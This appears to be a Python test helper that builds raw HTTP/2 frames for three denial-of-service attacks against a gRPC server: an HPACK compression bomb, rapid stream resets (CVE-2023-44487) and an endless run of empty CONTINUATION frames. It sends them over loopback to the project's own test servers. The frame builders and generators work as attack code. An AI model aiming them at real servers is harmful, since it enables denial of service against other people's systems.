"""What one connection of HTTP/2 may send to cost a server far more than itself, frame by frame (RFC 9113, RFC 7541).

Bounded in count and bytes. Only for servers of the tests themselves, on loopback.
"""

import asyncio
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager, suppress

METHOD = "Detokenize"
"""All attacks call it, and nobody else, so that the calls which reach a frontend can be counted."""
FROM = ("127.0.0.2", 0)
"""Another address than that of honest callers."""
HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 1, 3, 4, 9
END_STREAM, END_HEADERS = 1, 4
FRAME_BYTES = 16_000
START = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


START += frame(SETTINGS)


def literal(name: bytes, value: bytes, *, indexed: bool = False) -> bytes:
    """A header as it is; `indexed`: from then on index 62 stands for it."""
    return (b"\x40" if indexed else b"\x00") + _string(name) + _string(value)


def _string(data: bytes) -> bytes:
    if len(data) < 127:
        return bytes([len(data)]) + data
    length, rest = bytearray([127]), len(data) - 127
    while rest >= 128:
        length.append(rest % 128 | 128)
        rest //= 128
    return bytes([*length, rest]) + data


CALL = b"\x83\x86" + b"".join(
    literal(name, value)
    for name, value in {
        b":path": f"/selvage.v1.ModelService/{METHOD}".encode(),
        b":authority": b"selvage",
        b"content-type": b"application/grpc",
        b"te": b"trailers",
    }.items()
)
"""The headers of a POST over http."""


def compression_bomb(calls: int, references: int) -> Iterator[bytes]:
    """Calls whose headers repeat one of 4,000 bytes so many times, for a byte each."""
    yield START
    for number in range(calls):
        block = CALL + (b"" if number else literal(b"x", b"a" * 4000, indexed=True))
        block += b"\xbe" * references
        pieces = [block[start : start + FRAME_BYTES] for start in range(0, len(block), FRAME_BYTES)]
        for place, piece in enumerate(pieces):
            kind, flags = (CONTINUATION, 0) if place else (HEADERS, END_STREAM)
            yield frame(kind, flags | END_HEADERS * (place == len(pieces) - 1), 2 * number + 1, piece)


def rapid_resets(calls: int) -> Iterator[bytes]:
    """Calls that are taken back at once (CVE-2023-44487)."""
    yield START
    for number in range(calls):
        stream = 2 * number + 1
        yield frame(HEADERS, END_HEADERS, stream, CALL) + frame(RST_STREAM, 0, stream, bytes(3) + b"\x08")


def empty_continuations(frames: int) -> Iterator[bytes]:
    """Headers that do not end, though nothing more is in them."""
    yield START + frame(HEADERS, END_STREAM, 1, CALL)
    for _ in range(frames // 1000):
        yield frame(CONTINUATION, 0, 1) * 1000


@asynccontextmanager
async def sent(address: str, attack: Iterator[bytes]) -> AsyncIterator[int]:
    """Sends it all, or until the server ends the connection, which else stays open within; gives the bytes sent."""
    host, _, port = address.rpartition(":")
    reader, writer = await asyncio.open_connection(host, int(port), local_addr=FROM)
    reading, size = asyncio.create_task(_read_all(reader)), 0
    with suppress(ConnectionError):
        for chunk in attack:
            writer.write(chunk)
            await writer.drain()
            size += len(chunk)
    yield size
    reading.cancel()
    writer.close()


async def _read_all(reader: asyncio.StreamReader) -> None:
    with suppress(ConnectionError):
        while await reader.read(65536):
            pass
